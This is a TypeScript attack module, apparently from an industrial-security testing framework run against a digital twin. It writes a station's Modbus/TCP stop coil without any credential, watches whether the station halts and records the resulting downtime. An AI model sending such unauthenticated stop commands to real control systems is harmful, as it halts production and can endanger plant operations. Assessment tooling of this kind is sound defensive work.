/**
 * Unauthorized command message on Modbus/TCP: the station's stop coil written by whoever
 * reaches the port. Modbus has no login: when the face takes writes, the twin can only record
 * the peer address, and the station stops until someone restarts it.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, restore, trail, watch } from './common.ts';

export const modbusStop: Attack = {
  id: 'modbus-stop',
  title: 'Modbus stop coil: the station\'s PackML Stop written without any credential',
  techniques: [T.unauthorizedCommandMessage],
  face: 'modbus',
  preconditions: ['network reach to the Modbus/TCP port', 'the PLC model\'s published register map (twinline modbus map)'],
  steps: ['find the station\'s unit by its device identification', 'write its stop coil (FC 5, 0xFF00)', 'watch the station'],
  expectedImpact: 'the station stops: downtime until an operator restarts it',
  async run(ctx) {
    // the client loads on demand, so `attack list` answers at once
    const { locate, ModbusClient, reason } = await import('../clients/modbus.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    let status = 'not sent';
    try {
      const c = await ModbusClient.connect(ctx.target);
      try {
        const found = await locate(c, ctx.station);
        if (typeof found === 'string') status = found;
        else {
          const coil = found.map.tables.coil.find((p) => p.tag === 'stop')!;
          status = await c.writeCoil(found.device.unit, coil.address, true).then(() => 'ok', reason);
          evidence.push(`Modbus: write coil ${coil.address} (stop) of unit ${found.device.unit} (${ctx.station}) → ${status}`);
        }
      } finally {
        await c.close();
      }
    } catch (e) {
      status = reason(e);
      evidence.push(`Modbus: ${status}`);
    }
    const w = await watch(ctx, status === 'ok' ? ctx.watchMs : 0);
    await trail(ctx, evidence, status !== 'ok');
    const stopped = w.last !== null ? ['Stopping', 'Stopped'].some((s) => w.states.includes(s)) : status === 'ok';
    return {
      outcome: status === 'ok' && stopped ? 'succeeded' : 'blocked',
      evidence,
      impact: { write: status, stateBefore: was?.state ?? null, states: w.states, stateAfter: w.last?.state ?? null, downtimeS: w.downtimeS, watchedS: w.watchedS },
    };
  },
  cleanup: restore,
};
